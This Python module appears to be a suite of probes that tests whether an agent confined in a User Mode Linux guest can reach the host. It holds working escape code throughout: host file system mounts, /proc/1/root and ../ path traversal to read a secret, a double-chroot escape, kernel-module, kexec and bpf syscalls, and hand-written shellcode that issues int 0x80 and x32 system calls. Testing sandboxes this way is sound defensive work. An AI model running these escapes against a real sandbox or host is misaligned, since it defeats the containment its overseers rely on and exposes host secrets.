"""Through the guest's kernel: file systems, paths, code, system calls."""

import ctypes
import mmap
import os

from attempt import LIBC, SCRATCH, can_read, check, mount, wall

KINDS = ["hostfs", "hppfs", "humfs", "9p", "virtiofs", "fuse", "fuseblk", "overlay", "cifs"]

# System calls of x86-64.
CODE = {
    "create_module": 174,
    "init_module": 175,
    "finit_module": 313,
    "kexec_load": 246,
    "kexec_file_load": 320,
    "bpf": 321,
    "iopl": 172,
    "ioperm": 173,
}
X32 = 0x40000000
I386_OPEN = 5


def host_file_systems(options):
    """User Mode Linux's own file systems show the host's files; others, what a host shares."""
    os.makedirs(SCRATCH, exist_ok=True)
    for kind in KINDS:
        for source in ["none", "/", "host"]:
            with wall:
                mount(source, SCRATCH, kind, data="/" if kind == "hostfs" else None)
                yield f"mounted {kind}"


def host_paths(options):
    """A path means a file of the guest, from wherever one begins."""
    below = options["secret"].lstrip("/")
    roots = ["/", "/proc/1/root/", "/proc/self/root/", "/proc/1/cwd/", "/../" * 20]
    yield from (f"read {root}{below}" for root in roots if can_read(root + below))


def way_out_of_the_root(options):
    """Out of the agent's chroot, as root can: only the initial ramdisk may lie there."""
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(write_end, _look_outside(options["secret"]).encode())
        os._exit(0)
    os.close(write_end)
    os.waitpid(child, 0)
    with os.fdopen(read_end) as pipe:
        yield from filter(None, [pipe.read()])


def _look_outside(secret):
    try:
        os.makedirs(SCRATCH, exist_ok=True)
        os.chdir("/")
        os.chroot(SCRATCH)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        if can_read(secret):
            return f"read {secret} beyond the root"
        names = set(os.listdir("/"))
        # The ramdisk, or the image again if the kernel shuts this way.
        if names <= {"init", "dev", "root", "image"} or "usr" in names:
            return ""
        return f"saw {sorted(names)} beyond the root"
    except OSError:
        return ""


def code_in_the_kernel(options):
    """Modules, another kernel, programs for the kernel, ports of the processor."""
    for name, number in CODE.items():
        with wall:
            check(LIBC.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0))
            yield f"{name} is there"


def system_calls_of_another_kind(options):
    """A system call that the guest's kernel does not catch would be one of the host's."""
    secret = options["secret"].encode()
    with wall:
        check(LIBC.syscall(ctypes.c_long(X32 + 2), secret, 0, 0))
        yield "opened the secret by an x32 system call"
    result = _open_by_int80(secret)
    if result >= 0:
        yield f"opened the secret by int 0x80 ({result})"


def _open_by_int80(path):
    """open(2) of i386. The guest's kernel takes the number for one of its own: fstat(-1)."""
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40  # MAP_32BIT: pointers have 32 bits
    page = mmap.mmap(-1, 4096, flags, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    text = (
        b"\x53"  # push rbx
        b"\x48\xc7\xc7\xff\xff\xff\xff"  # mov rdi, -1
        b"\xbb" + (base + 2048).to_bytes(4, "little") +  # mov ebx, path
        b"\x31\xc9\x31\xd2"  # ecx = edx = 0
        b"\xb8" + I386_OPEN.to_bytes(4, "little") +  # mov eax, 5
        b"\xcd\x80"  # int 0x80
        b"\x5b\xc3"  # pop rbx; ret
    )
    page[: len(text)] = text
    page[2048 : 2048 + len(path) + 1] = path + b"\0"
    return ctypes.CFUNCTYPE(ctypes.c_int)(base)()
